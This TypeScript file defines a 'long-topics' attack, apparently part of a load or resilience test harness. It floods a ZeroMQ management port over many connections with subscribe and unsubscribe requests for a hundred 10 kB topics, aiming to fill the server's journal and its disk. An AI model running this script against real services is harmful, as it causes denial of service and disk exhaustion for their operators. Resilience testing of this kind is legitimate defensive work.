import { Dealer } from 'zeromq'
import type { Attack } from './attack.ts'

/** Subscribes to topics as long as they may be, again and again, and goes at once: so the journal of subscriptions grew. */
export const longTopics: Attack = {
  name: 'long-topics',
  description: 'Subscribes to a hundred topics of 10 kB and unsubscribes, for a journal that fills the disk.',
  async run({ host, manage }, connections, signal) {
    const topic = Array.from({ length: 100 }, (_, number) => `${number}`.padEnd(10_000, 'x'))
    const subscribe = JSON.stringify({ action: 'subscribe', topic })
    const visit = async () => {
      const socket = new Dealer({ linger: 0, receiveTimeout: 1000, sendTimeout: 1000 })
      try {
        socket.connect(`tcp://${host}:${manage}`)
        while (!signal.aborted) {
          await socket.send(['', subscribe])
          const [, reply] = await socket.receive()
          const { topic: p2pTopic } = JSON.parse(String(reply))
          if (typeof p2pTopic !== 'string') continue
          await socket.send(['', JSON.stringify({ action: 'unsubscribe', topic: p2pTopic })])
          await socket.receive()
        }
      } catch {
        // Refused, closed, or not answered in time: he comes again.
      } finally {
        socket.close()
      }
    }
    const come = async () => {
      while (!signal.aborted) await visit()
    }
    await Promise.all(Array.from({ length: connections }, come))
  },
}
